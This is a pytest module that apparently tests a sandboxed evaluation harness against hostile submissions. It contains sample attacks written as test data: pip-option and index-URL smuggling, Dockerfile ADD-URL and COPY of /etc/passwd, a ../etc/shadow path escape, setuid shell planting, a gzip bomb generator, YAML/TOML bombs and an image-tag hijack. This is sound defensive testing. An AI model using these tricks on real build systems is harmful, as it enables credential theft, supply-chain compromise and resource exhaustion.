"""A hostile participant's submissions, built and run for real by `harness run` in a subprocess.

Build-time attacks (a link to the ground truth in the build context, a base image from a registry,
ADD of a URL, pip options, an endless or memory-hungry build; and what intake reads in the consuming
tool's own grammar: pip's comment continuation, encoding declarations, `${VAR}`, VCS lines, the
Dockerfile's escape directive and ARG expansion, hard links and sparse files, an archive of 30
images, a manifest path out of the folder, TOML and YAML bombs), manifest attacks (a Dockerfile path
outside the repository, resources over the caps) and run-time attacks (header and extension
bombs, a flood of files, a sparse file, 2500 nested folders, hostile names and terminal codes, a
CPU hog under a CPU cap). For every one: the recorded status and reason; every other algorithm of
the same evaluation still completed; no file outside the results folder changed; no temp folder
left; the harness process's peak RSS stayed under 1 GiB (measured)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from harness.store import Store
from tests.docker.conftest import HERE, REPO, retagged_archive

PEAK_RSS_BOUND_KIB = 1024 * 1024  # 1 GiB for the whole harness process

BEHAVE_DOCKERFILE = (HERE / "behave.Dockerfile").read_text()

CONTRACT_DOCKERFILE = """# a platform's stand-in (tests/docker/contracts/)
ARG BASE=python:3.11-slim-bookworm
FROM ${{BASE}}
COPY algorithm/ /opt/algorithm/
ENTRYPOINT ["python3", "/opt/algorithm/{script}"]
"""
FLARE_DOCKERFILE = "ARG BASE=python:3.11-slim-bookworm\nFROM ${BASE}\nCOPY algorithm/ /workspace/\nWORKDIR /workspace\n"

# name: (behave mode, [resources], Dockerfile text or None for behave's, extra files, expected status or None for
#        "never run", text expected in the message / problem)
SUITE: dict[str, tuple[str, dict[str, object], str | None, dict[str, str], str | None, str]] = {
    "well-behaved": ("ok", {}, None, {}, "ok", ""),
    # build time
    "links-to-truth": ("ok", {}, None, {"gt -> labels": ""}, "build_failed", "a symbolic link in the build context"),
    "from-registry": ("ok", {}, "FROM alpine:3\nCOPY algorithm/ /opt/algorithm/\n", {}, "build_failed",
                      "FROM must be the harness's base image"),
    "adds-url": ("ok", {}, BEHAVE_DOCKERFILE + "ADD http://192.0.2.1/model.bin /opt/\n", {}, "build_failed",
                 "ADD of a URL"),
    "pip-options": ("ok", {}, None, {"requirements.txt": "-r /proc/self/environ\n"}, "build_failed", "line 1: a pip option"),
    "pip-url": ("ok", {}, None, {"requirements.txt": "numpy @ https://192.0.2.1/numpy.whl\n"}, "build_failed",
                "line 1: not a package requirement"),
    "copies-from-image": ("ok", {}, BEHAVE_DOCKERFILE + "COPY --from=alpine:3 /etc/passwd /tmp/\n", {}, "build_failed",
                          "COPY --from an image"),
    "fifo-in-context": ("ok", {}, None, {"pipe |": ""}, "build_failed", "pipe: not a regular file"),
    # intake: what pip, the daemon's parser, `docker load` and TOML/YAML would read differently from a plain check
    "pip-comment-continuation": ("ok", {}, None, {"requirements.txt": "# note \\\n--index-url {INDEX}/simple\n"},
                                 "build_failed", "line 2: a pip option"),
    "pip-utf7": ("ok", {}, None, {"requirements.txt": "# -*- coding: utf-7 -*-\nsix==1.16.0+AC0-\n"}, "build_failed",
                 "an encoding declaration pip would obey"),
    "pip-vcs": ("ok", {}, None, {"requirements.txt": "-e git+{INDEX}/evil.git#egg=evil\n"}, "build_failed",
                "line 1: a pip option"),
    "pip-env": ("ok", {}, None, {"requirements.txt": "six==1.16.0 --index-url={INDEX}/${HOME}/simple\n"},
                "build_failed", "line 1: a '$'"),
    "escape-directive": ("ok", {}, "# escape=`\n" + BEHAVE_DOCKERFILE + "RUN echo \\\nADD {INDEX}/x /opt/\n", {},
                         "build_failed", "ADD of a URL"),
    "arg-url": ("ok", {}, BEHAVE_DOCKERFILE + "ARG U={INDEX}/x\nADD ${U} /opt/\n", {}, "build_failed", "ADD of a URL"),
    "hardlink-to-truth": ("ok", {}, None, {"gt => labels": ""}, "build_failed", "a hard link"),
    "sparse-context": ("ok", {}, None, {"model.bin ~": ""}, "build_failed", "a sparse file"),
    "archive-thirty": ("ok", {}, None, {"manifest!": 'archive = "team.tar"', "team.tar": "THIRTY"}, "build_failed",
                       "holds 30 images; an algorithm's archive holds exactly one"),
    "archive-escape": ("ok", {}, None, {"manifest!": 'archive = "../well-behaved/behave.py"'}, None,
                       "key 'archive' = '../well-behaved/behave.py' leaves the algorithm's folder"),
    "toml-bomb": ("ok", {}, None, {"manifest+": "x = " + "[" * 30000 + "]" * 30000}, None, "nested too deeply"),
    "yaml-bomb": ("ok", {}, None, {"manifest+": 'contract = "mlcube"\n[mlcube]\nconfig = "mlcube.yaml"',
                                   "mlcube.yaml": "a: &a [x, x, x, x, x, x, x, x]\nb: [*a, *a, *a, *a, *a, *a, *a]\n"},
                  None, "a YAML anchor, alias or tag"),
    # outputs and writable inputs, each in its own contract's terms
    "mha-stdin": ("stdin", {}, CONTRACT_DOCKERFILE.format(script="gc_inference.py"),
                  {"gc_inference.py": "@gc_inference.py", "model/offset.txt": "3\n",
                   "manifest+": 'contract = "grand-challenge"\n[grand-challenge]\nmodel = "model"'},
                  "invalid_output", "ElementDataFile = '/dev/stdin' points outside the file"),
    "npz-wide": ("wide", {"memory": "512m"}, CONTRACT_DOCKERFILE.format(script="nnunet_predict.py"),
                 {"nnunet_predict.py": "@nnunet_predict.py",
                  "manifest+": 'writes_probabilities = true\ncontract = "nnunet"\n[nnunet]\n'
                               'arguments = ["-d", "Dataset001_Box", "-c", "3d_fullres", "-f", "3"]'},
                 "ok", ""),
    "flare-floods-inputs": ("ok", {"output": "8m", "output_files": 64}, FLARE_DOCKERFILE,
                            {"predict.sh": "#!/bin/sh\nset -e\nhead -c 64000000 /dev/zero > /workspace/inputs/flood.bin\n",
                             "manifest+": 'contract = "flare"'},
                            "output_too_large", "/workspace/inputs filled its writable space"),
    "archive-hijack": ("ok", {}, None, {"manifest!": 'archive = "team.tar"', "team.tar": "HIJACK"}, "ok", ""),
    "archive-too-big": ("ok", {}, None, {"manifest!": 'archive = "team.tar.gz"', "team.tar.gz": "INFLATES"},
                        "build_failed", "holds more than 1073741824 bytes uncompressed"),
    # FLARE's images run as their own user (root here): what it leaves in its inputs and outputs, a setuid
    # shell among it, is in volumes, never in a host folder the harness (an ordinary user) could not remove
    "flare-root-leftovers": ("ok", {}, FLARE_DOCKERFILE,
                             {"predict.sh": "#!/bin/sh\nfor d in inputs outputs; do mkdir -p /workspace/$d/deep && "
                                            "cp /bin/sh /workspace/$d/deep/sbash && chmod 4755 /workspace/$d/deep/sbash; "
                                            "done\nid -u\n",
                              "manifest+": 'contract = "flare"'},
                             "invalid_output", "no label map /workspace/outputs/"),
    # (an endless build: SLOW_BUILD below, in an evaluation of its own under a short build time limit)
    "hungry-build": ("ok", {}, BEHAVE_DOCKERFILE.replace(
        "RUN useradd", "RUN python3 -c \"b = bytearray(1 << 30); b[::4096] = b'x' * len(b[::4096])\" && useradd"), {},
        "build_failed", "build of hungry-build failed"),
    # manifests
    "greedy": ("ok", {"memory": "999g"}, None, {}, None, "key 'resources.memory' = 999g is over the challenge's cap of 2g"),
    "reads-shadow": ("ok", {}, "../../../../../../../../etc/shadow", {}, None, "key 'dockerfile' leaves the repository"),
    "profile-cheat": ("ok", {}, None, {"profile": "atlas8"}, None, "its outputs use the label system of profile atlas8"),
    "newline-name": ("ok", {}, None, {"name": "evil\\n"}, None, "key 'name' = 'evil\\n'; use lower-case letters"),
    # run time
    "header-bomb": ("header_bomb", {}, None, {}, "invalid_output", "header grid 2048x2048x768 differs"),
    "extension-bomb": ("extension_bomb", {}, None, {}, "invalid_output", "the header has extensions"),
    "many-files": ("many_files", {"output_files": 500}, None, {}, "output_too_large", "limit of 500 files and folders"),
    "unlinked-flood": ("unlinked_flood", {"output": "64m"}, None, {}, "ok", ""),
    # no `sleep` in the image to hold /output: the harness's own base image holds it, still a file system of its own
    "no-sleep-flood": ("unlinked_flood", {"output": "64m"},
                       BEHAVE_DOCKERFILE.replace("RUN useradd", "RUN rm -f /bin/sleep /usr/bin/sleep && useradd"), {},
                       "ok", ""),
    "sparse": ("sparse", {}, None, {}, "output_too_large", "files read as more than"),  # 1 TiB holding nothing
    "nested": ("nested", {"output_files": 4000}, None, {}, "ok", ""),
    "bad-names": ("bad_names", {}, None, {}, "ok", ""),
    "cpu-hog": ("burn2", {"cpus": 1}, None, {}, "ok", ""),
}

# An endless build, in its own evaluation whose challenge allows builds SLOW_BUILD_CAP_S: the main
# evaluation's 60 s (kept for its honest builds on a loaded machine) would cost a minute of waiting.
SLOW_BUILD_CAP_S = 5
SLOW_BUILD = {"slow-build": ("ok", {}, BEHAVE_DOCKERFILE.replace("RUN useradd", "RUN sleep 60 && useradd"), {}, "build_failed",
                             f"longer than the challenge's build time limit of {SLOW_BUILD_CAP_S} s")}

# The harness's own peak: VmHWM of its own memory map. (getrusage's ru_maxrss also holds the parent's
# high-water mark where the child was started by vfork and exec, as subprocess does.)
_WRAPPER = """
import os, sys
from harness.cli import main
try:
    main(sys.argv[1:])
finally:
    status = open("/proc/self/status").read()
    with open(os.environ["PEAK_FILE"], "w") as out:
        out.write(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:")))
"""


def _thirty_images() -> bytes:
    """A `docker save`-shaped archive naming 30 images (each tagged as someone else's)."""
    import io
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        members = {"c.json": b"{}", "l.tar": b"\0" * 1024,
                   "manifest.json": json.dumps([{"Config": "c.json", "RepoTags": [f"harness/base:{i}"],
                                                 "Layers": ["l.tar"]} for i in range(30)]).encode()}
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _inflating_archive(path: Path) -> None:
    """A gzip'd `docker save`-shaped tar whose layer l.tar is 1100 MiB of zeros, in about 1 MB. The
    deflate stream of 1 MiB of zeros after a full flush (which resets the compressor) is the same bytes
    each time: compressed once and written 1100 times, the gzip trailer's CRC-32 and length those of
    the whole (a valid gzip file, as `gzip -t` finds)."""
    import io
    import struct
    import tarfile
    import zlib

    size, block = 1100 * 1024**2, bytes(1 << 20)
    head = tarfile.TarInfo("l.tar")
    head.size = size
    tail = io.BytesIO()
    with tarfile.open(fileobj=tail, mode="w") as archive:
        manifest = json.dumps([{"Config": "c.json", "RepoTags": None, "Layers": ["l.tar"]}]).encode()
        for name, data in (("c.json", b"{}"), ("manifest.json", manifest)):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    header, trailer = head.tobuf(tarfile.GNU_FORMAT), tail.getvalue()
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    compressed_block = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(header)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(trailer, crc)
    with path.open("wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff")  # gzip: deflate, no name, mtime 0
        fresh = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        out.write(fresh.compress(header) + fresh.flush(zlib.Z_FULL_FLUSH))
        for _ in range(size // len(block)):
            out.write(compressed_block)
        out.write(fresh.compress(trailer) + fresh.flush(zlib.Z_FINISH))
        out.write(struct.pack("<II", crc, (len(header) + size + len(trailer)) & 0xFFFFFFFF))


def _write_algorithms(root: Path, data: Path, index: str, suite: dict | None = None,  # type: ignore[type-arg]
                      prepared: dict[str, Path] | None = None) -> Path:
    """root/algorithms/ and root/dockerfiles/ for `suite` (SUITE by default); `prepared` maps a content
    marker (INFLATES, HIJACK) to the file, made once per module, that each evaluation copies."""
    prepared = prepared or {}
    (root / "dockerfiles").mkdir(parents=True)
    (root / "dockerfiles" / "behave.Dockerfile").write_text(BEHAVE_DOCKERFILE)
    for name, (mode, resources, dockerfile, files, _, _) in (SUITE if suite is None else suite).items():
        folder = root / "algorithms" / name
        folder.mkdir(parents=True)
        shutil.copy(HERE / "behave" / "behave.py", folder / "behave.py")
        (folder / "mode").write_text(mode + "\n")
        manifest = {"name": name, "profile": "flare22"}
        for rel, content in files.items():
            content = content.replace("{INDEX}", index)
            if rel in manifest:  # a manifest value, not a file
                manifest[rel] = content
            elif rel in ("manifest!", "manifest+"):  # the manifest's source line (!), or lines added to it (+)
                continue
            elif " -> " in rel:  # a symbolic link to the data set's ground truth
                (folder / rel.split(" -> ")[0]).symlink_to(data / "labelsTr", target_is_directory=True)
            elif " => " in rel:  # a hard link to one of the data set's labels
                os.link(next((data / "labelsTr").iterdir()), folder / rel.split(" => ")[0])
            elif rel.endswith(" ~"):  # 1.5 GiB that hold nothing
                with (folder / rel[:-2]).open("wb") as sparse:
                    sparse.truncate(1536 * 1024**2)
            elif rel.endswith(" |"):  # a FIFO
                os.mkfifo(folder / rel[:-2])
            elif content == "THIRTY":
                (folder / rel).write_bytes(_thirty_images())
            elif content in ("INFLATES", "HIJACK"):  # INFLATES: 1.1 GB of zeros in about 1 MB, over the challenge's
                shutil.copyfile(prepared[content], folder / rel)  # image size; HIJACK: see the `hijack` fixture
            elif content.startswith("@"):  # a platform's stand-in script
                shutil.copy(HERE / "contracts" / content[1:], folder / rel)
            else:
                (folder / rel).parent.mkdir(parents=True, exist_ok=True)
                (folder / rel).write_text(content)
        if dockerfile is not None:
            dockerfile = dockerfile.replace("{INDEX}", index)
        if dockerfile is None:
            dockerfile_path = "dockerfiles/behave.Dockerfile"
        elif dockerfile.startswith("../"):
            dockerfile_path = dockerfile
        else:
            (root / "dockerfiles" / f"{name}.Dockerfile").write_text(dockerfile)
            dockerfile_path = f"dockerfiles/{name}.Dockerfile"
        limits = {"memory": "256m", "time_limit_s": 30, **resources}
        lines = "".join(f"{key} = {json.dumps(value)}\n" for key, value in limits.items())
        source = files.get("manifest!", f'dockerfile = "{dockerfile_path}"')
        added = files.get("manifest+", "")
        tables = added[added.index("["):] + "\n" if "[" in added.split("\n", 1)[-1] and "\n[" in added else ""
        top = added[: added.index("\n[")] if tables else added
        (folder / "algorithm.toml").write_text(
            f'name = "{manifest["name"]}"\nversion = "1"\nkind = "segmenter"\n{source}\n'
            f'profile = "{manifest["profile"]}"\n{top}\n'
            f'gpu = "none"\n\n[resources]\n{lines}{tables}')
    return root / "algorithms"


def _content_digest(path: Path) -> str:
    """sha256 of the file's extents: each hole (which reads as zeros) by its place and length, each
    run of data by its bytes, so the sparse 1.5 GiB in the context is hashed without reading 1.5 GiB
    of zeros. Equal digests mean equal contents; a hole filled with written zeros counts as a change."""
    digest = hashlib.sha256()
    with path.open("rb") as handle:
        fd = handle.fileno()
        size = os.fstat(fd).st_size
        digest.update(f"{size}\0".encode())
        offset = 0
        while offset < size:
            try:
                start = os.lseek(fd, offset, os.SEEK_DATA)
            except OSError:  # ENXIO: nothing but a hole up to the end
                start = size
            if start > offset:
                digest.update(f"hole {offset} {start - offset}\0".encode())
            if start >= size:
                break
            end = os.lseek(fd, start, os.SEEK_HOLE)
            digest.update(f"data {start} {end - start}\0".encode())
            handle.seek(start)
            left = end - start
            while left > 0 and (chunk := handle.read(min(left, 1 << 20))):
                digest.update(chunk)
                left -= len(chunk)
            offset = end
    return digest.hexdigest()


def _snapshot(*folders: Path) -> dict[str, tuple[int, int, str]]:
    out = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and not path.is_symlink():
                info = path.stat()
                out[str(path)] = (info.st_ino, info.st_mode, _content_digest(path))
    return out


UNPRIVILEGED = 65534  # nobody


def _as_ordinary_user(repo: Path) -> tuple[list[str], dict[str, object], dict[str, str]]:
    """How to start the harness as an ordinary user in the docker group: the system's Python of this
    minor version, with this checkout and its environment's packages on the path; skips naming what
    this host lacks for that."""
    import grp
    import site

    if os.geteuid() != 0:
        pytest.skip("running the evaluation as another, ordinary user needs root to switch to it")
    python = Path(f"/usr/bin/python3.{sys.version_info.minor}")
    try:
        docker_gid = grp.getgrnam("docker").gr_gid
    except KeyError:
        pytest.skip("no `docker` group on this host for the ordinary user to be in")
    if not python.exists():
        pytest.skip(f"no {python} for the ordinary user (the environment's own Python is not theirs to run)")
    path = os.pathsep.join([site.getsitepackages()[0], str(repo)])
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": path,
           "HARNESS_LEADERBOARD_DIR": str(repo / "leaderboard")}  # the package's `harness.leaderboard`, unmapped
    switch: dict[str, object] = {"user": UNPRIVILEGED, "group": UNPRIVILEGED, "extra_groups": [docker_gid]}
    probe = subprocess.run([str(python), "-c", "import harness, numpy, docker; docker.from_env().ping()"],
                           capture_output=True, text=True, cwd="/", env={**env, "HOME": "/"}, **switch)  # type: ignore[call-overload]
    if probe.returncode != 0:
        pytest.skip(f"an ordinary user cannot run the harness from {repo}: {probe.stderr.strip()[-200:]}")
    return [str(python)], switch, env


@pytest.fixture(scope="module", params=["root", "ordinary user"])
def who(request) -> tuple[str, list[str], dict[str, object], dict[str, str]]:  # type: ignore[no-untyped-def]
    """Who runs the harness: root, or an ordinary user in the docker group (nobody: the sandbox then
    runs as that user, and nothing of root's is readable). (name, command, subprocess switch, environment)."""
    if request.param == "ordinary user":
        return (request.param, *_as_ordinary_user(REPO))
    return request.param, [sys.executable], {}, {}


@pytest.fixture(scope="module")
def inflating_archive(tmp_path_factory) -> Path:  # type: ignore[no-untyped-def]
    """archive-too-big's team.tar.gz, compressed once (1.1 GB of zeros) and copied into each evaluation."""
    path = tmp_path_factory.mktemp("inflating") / "team.tar.gz"
    _inflating_archive(path)
    return path


@pytest.fixture(scope="module")
def hijack(tmp_path_factory, base_image: str) -> tuple[Path, str, str]:  # type: ignore[no-untyped-def]
    """archive-hijack/team.tar, made once and copied into each evaluation: the well-behaved algorithm's
    image with a label added, its manifest tagging it as well-behaved's own image and as the base image.
    Returns (the archive, the victim's tag, the victim's id); the victim is the image each evaluation's
    well-behaved algorithm builds (the same content tag)."""
    import io

    import docker

    from harness.build import build_algorithm
    from harness.spec import load_manifest

    root = tmp_path_factory.mktemp("hijack")
    algorithms = _write_algorithms(root, root / "data", "http://127.0.0.1:9", {"well-behaved": SUITE["well-behaved"]})
    client = docker.from_env()
    victim = build_algorithm(load_manifest(algorithms / "well-behaved" / "algorithm.toml", repo_root=root),
                             base=base_image, wheel_cache=root / "cache" / "wheelhouse", client=client)
    evil, _ = client.images.build(fileobj=io.BytesIO(f"FROM {victim.image_id}\nLABEL evil=1\n".encode()), rm=True,
                                  pull=False, network_mode="none")
    raw = b"".join(client.images.get(evil.id).save(named=False))
    client.images.remove(evil.id)
    archive = root / "team.tar"
    archive.write_bytes(retagged_archive(raw, [victim.tag, base_image]))
    return archive, victim.tag, victim.image_id


def _unload(client, archive: Path, name: str) -> None:  # type: ignore[no-untyped-def]
    """Remove the harness's name for `archive` as algorithm `name` (`harness-<name>:archive-<hash>`),
    and with it the image that an earlier evaluation loaded from it: each evaluation loads the
    archive as a host that never saw it (else the harness would find it loaded and not load it)."""
    import docker

    tag = f"harness-{name}:archive-{hashlib.sha256(archive.read_bytes()).hexdigest()[:16]}"
    try:
        client.images.remove(tag)
    except docker.errors.ImageNotFound:
        pass


def _new_root(request, tmp_path_factory, who: str, prefix: str) -> Path:  # type: ignore[no-untyped-def]
    if who == "ordinary user":
        root = Path(tempfile.mkdtemp(prefix=f"harness-{prefix}-user-"))  # pytest's own folders are root's alone
        root.chmod(0o755)
        request.addfinalizer(lambda: shutil.rmtree(root, ignore_errors=True))
        return root
    return tmp_path_factory.mktemp(prefix)


def _give_to(switch: dict[str, object], root: Path) -> None:
    """Everything the ordinary user runs on is theirs (the hard link's target, the labels, too)."""
    if switch:
        for path in [root, *root.rglob("*")]:
            os.chown(path, UNPRIVILEGED, UNPRIVILEGED, follow_symlinks=False)


def _harness_run(who: tuple[str, list[str], dict[str, object], dict[str, str]], root: Path, algorithms: Path,
                 base_image: str, extra_env: dict[str, str], timeout_s: float) -> subprocess.CompletedProcess[str]:
    """`harness run` of `algorithms` on root/data under root/challenge.toml, by `who`, its peak RSS
    written to root/peak."""
    _, command, switch, user_env = who
    env = {**(user_env or os.environ), **({"HOME": str(root / "home")} if switch else {}),
           "HARNESS_CACHE": str(root / "cache"), "PEAK_FILE": str(root / "peak"), **extra_env}
    return subprocess.run(  # type: ignore[call-overload, no-any-return]
        [*command, "-c", _WRAPPER, "run", str(algorithms), "--data", str(root / "data"), "--results",
         str(root / "results"), "--base", base_image, "--challenge", str(root / "challenge.toml"), "--scoring-workers", "0"],
        env=env, capture_output=True, text=True, timeout=timeout_s, cwd=REPO, **switch)


def _slow_build_root(request, tmp_path_factory, who) -> tuple[Path, Path]:  # type: ignore[no-untyped-def]
    from harness.data.synth import write_dataset

    root = _new_root(request, tmp_path_factory, who[0], "slow-build")
    write_dataset(root / "data", cases=1, seed=31, size="small")
    algorithms = _write_algorithms(root, root / "data", "http://127.0.0.1:9", SLOW_BUILD)
    (root / "challenge.toml").write_text(f'name = "slow-build-test"\n[limits]\nbuild_time_s = {SLOW_BUILD_CAP_S}\n')
    (root / "home").mkdir()
    _give_to(who[2], root)
    return root, algorithms


@pytest.fixture(scope="module")
def evaluations(request, who, tmp_path_factory, base_image: str, inflating_archive: Path,  # type: ignore[no-untyped-def]
                hijack: tuple[Path, str, str]):
    """The one evaluation of SUITE, and SLOW_BUILD alone in an evaluation of its own under a build time
    limit of SLOW_BUILD_CAP_S, both run by `who`. The two `harness run`s go side by side: the endless
    build only waits for its limit, on the daemon, while the other evaluation works."""
    from harness.data.synth import write_dataset

    slow_root, slow_algorithms = _slow_build_root(request, tmp_path_factory, who)
    slow: dict[str, object] = {}

    def run_slow_build() -> None:
        started = time.monotonic()
        try:
            slow["done"] = _harness_run(who, slow_root, slow_algorithms, base_image, {}, 300)
        except BaseException as exc:  # noqa: BLE001 - raised again in the fixture's own thread
            slow["error"] = exc
        slow["elapsed_s"] = time.monotonic() - started

    builder = threading.Thread(target=run_slow_build, name="slow-build", daemon=True)
    builder.start()
    try:
        root = _new_root(request, tmp_path_factory, who[0], "submissions")
        write_dataset(root / "data", cases=1, seed=31, size="small")
        evaluation = _evaluate(who, root, base_image, inflating_archive, hijack)
    finally:
        builder.join()
    if "error" in slow:
        raise slow["error"]  # type: ignore[misc]
    with Store.open(slow_root / "results", lock=False, create=False) as store:
        runs = store.runs().set_index("algorithm")
    return {"evaluation": evaluation, "slow_build": {"done": slow["done"], "runs": runs, "elapsed_s": slow["elapsed_s"]}}


def _evaluate(who, root: Path, base_image: str, inflating_archive: Path,  # type: ignore[no-untyped-def]
              hijack: tuple[Path, str, str]) -> dict[str, object]:
    import http.server

    import docker

    seen: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):  # a host a submission names: it must hear nothing
        def do_GET(self) -> None:  # noqa: N802
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_POST = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    archive, victim_tag, victim_id = hijack
    algorithms = _write_algorithms(root, root / "data", f"http://127.0.0.1:{server.server_address[1]}",
                                   prepared={"INFLATES": inflating_archive, "HIJACK": archive})
    client = docker.from_env()
    _unload(client, archive, "archive-hijack")
    tags_before = {t for image in client.images.list() for t in image.tags}
    base_id = client.images.get(base_image).id
    # build_time_s: far above an honest build on a cold, loaded 2-core CI machine (fuse-overlayfs); the
    # endless build is SLOW_BUILD's own evaluation, under a short limit
    (root / "challenge.toml").write_text('name = "hostile-test"\n[limits]\nmemory = "2g"\ncpus = 2\n'
                                         'build_time_s = 60\nbuild_memory = "256m"\nimage = "1g"\n')
    scratch = root / "scratch"
    scratch.mkdir()
    (root / "home").mkdir()
    _give_to(who[2], root)
    before = _snapshot(root / "data", algorithms, root / "dockerfiles")
    try:
        done = _harness_run(who, root, algorithms, base_image, {"TMPDIR": str(scratch)}, 1200)
    finally:
        server.shutdown()
    with Store.open(root / "results", lock=False, create=False) as store:
        runs = store.runs().set_index("algorithm")
        assert store.integrity_ok()
    tags_after = {t for image in client.images.list() for t in image.tags}
    leftovers = [c.name for c in client.containers.list(all=True, filters={"label": "harness.results"})
                 if c.labels.get("harness.results", "").startswith(str(root))]
    return {"root": root, "done": done, "runs": runs, "before": before, "scratch": scratch, "who": who[0],
            "peak_kib": int((root / "peak").read_text()), "requests": seen, "new_tags": tags_after - tags_before,
            "base_moved": client.images.get(base_image).id != base_id, "containers": leftovers,
            "victim": (victim_tag, victim_id), "victim_now": client.images.get(victim_tag).id}


@pytest.fixture(scope="module")
def evaluation(evaluations):  # type: ignore[no-untyped-def]
    return evaluations["evaluation"]


@pytest.fixture(scope="module")
def slow_build(evaluations):  # type: ignore[no-untyped-def]
    return evaluations["slow_build"]


def test_an_endless_build_is_abandoned_at_the_challenges_build_time_limit(slow_build) -> None:
    done, runs = slow_build["done"], slow_build["runs"]
    assert done.returncode == 3, done.stderr[-2000:]  # partial: the failed build is recorded
    ((name, expected, text),) = [(name, spec[4], spec[5]) for name, spec in SLOW_BUILD.items()]
    row = runs.loc[name]
    assert row.status == expected, f"{name}: {row.status} ({row.message})"
    assert text in row.message, row.message
    assert slow_build["elapsed_s"] < 50  # abandoned at the limit, not waited out (its step sleeps 60 s)


@pytest.mark.parametrize("name", list(SUITE))
def test_each_attack_is_recorded_and_the_rest_of_the_evaluation_completes(evaluation, name: str) -> None:
    _, _, _, _, expected, text = SUITE[name]
    runs, done = evaluation["runs"], evaluation["done"]
    assert done.returncode == 3, done.stderr[-2000:]  # partial: some failed, all recorded
    if expected is None:  # refused before anything ran: a problem on the terminal, no row
        assert name not in runs.index
        assert text in done.stderr
    else:
        row = runs.loc[name]
        assert row.status == expected, f"{name}: {row.status} ({row.message})"
        assert text in row.message, row.message
    assert runs.loc["well-behaved", "status"] == "ok"  # every sibling still ran
    assert set(runs.index) == {n for n, spec in SUITE.items() if spec[4] is not None}


def test_nothing_outside_the_results_folder_changed_and_memory_stayed_bounded(evaluation) -> None:
    root = evaluation["root"]
    assert _snapshot(root / "data", root / "algorithms", root / "dockerfiles") == evaluation["before"]
    assert list(evaluation["scratch"].iterdir()) == []
    assert evaluation["peak_kib"] < PEAK_RSS_BOUND_KIB, f"harness peak RSS {evaluation['peak_kib']} KiB"
    used = sum(p.stat().st_blocks * 512 for p in (root / "results").rglob("*") if p.is_file())
    assert used < 20 * 1024**2  # the sparse 1 TiB, the floods and the bombs left nothing behind


def test_no_request_left_for_a_host_a_submission_named_and_no_name_was_taken(evaluation) -> None:
    """pip, the daemon and `docker load` never saw what intake refused: the local server that the
    hostile requirements and Dockerfiles name heard nothing; no image was tagged but by the harness
    (its content tags), the base image kept its id, and no container of this evaluation is left."""
    assert evaluation["requests"] == []
    tag, image_id = evaluation["victim"]
    assert evaluation["victim_now"] == image_id, f"{tag} was taken by the archive"
    assert evaluation["runs"].loc["well-behaved", "image_digest"] == image_id  # the victim ran its own image
    assert all(tag.startswith("harness-") for tag in evaluation["new_tags"]), evaluation["new_tags"]
    assert not evaluation["base_moved"]
    assert evaluation["containers"] == []


def test_what_the_contract_does_not_ask_for_is_reported_not_kept(evaluation) -> None:
    runs, root = evaluation["runs"], evaluation["root"]
    for name, extra in (("nested", "d"), ("bad-names", "notes.txt")):
        details = json.loads(runs.loc[name, "details"])
        assert extra in details["not_kept"], (name, details.get("not_kept"))
    assert "bad-\\xff\\xfe-red" in json.loads(runs.loc["bad-names", "details"])["not_kept"]
    assert "\x1b" not in runs.loc["bad-names", "log_tail"] and "cleared your terminal" in runs.loc["bad-names", "log_tail"]
    kept = {p.name for p in (root / "results" / "runs" / "bad-names").rglob("*")}
    assert "probabilities" not in kept and "notes.txt" not in kept  # undeclared probabilities are not kept either


def test_the_output_limit_is_a_file_system_not_a_watch(evaluation) -> None:
    """A file deleted at once but kept open, written at full speed: it stops at the 64 MB limit
    (ENOSPC), however fast it writes, and nothing of it reaches the host."""
    for name in ("unlinked-flood", "no-sleep-flood"):
        log = evaluation["runs"].loc[name, "log_tail"]
        report = json.loads([line for line in log.splitlines() if line.startswith("{")][0])
        assert report["error"] == "No space left on device" and report["unlinked_written_mb"] <= 64, name
        assert "output_limit" not in json.loads(evaluation["runs"].loc[name, "details"]), name  # not the polled fallback


def test_the_cpu_cap_holds(evaluation) -> None:
    """burn2 keeps two processes busy for 3 s: about 6 CPU-seconds unlimited, about 3 under cpus = 1."""
    log = evaluation["runs"].loc["cpu-hog", "log_tail"]
    cpu_s = json.loads([line for line in log.splitlines() if line.startswith("{")][0])["cpu_s"]
    assert cpu_s < 4.5, cpu_s
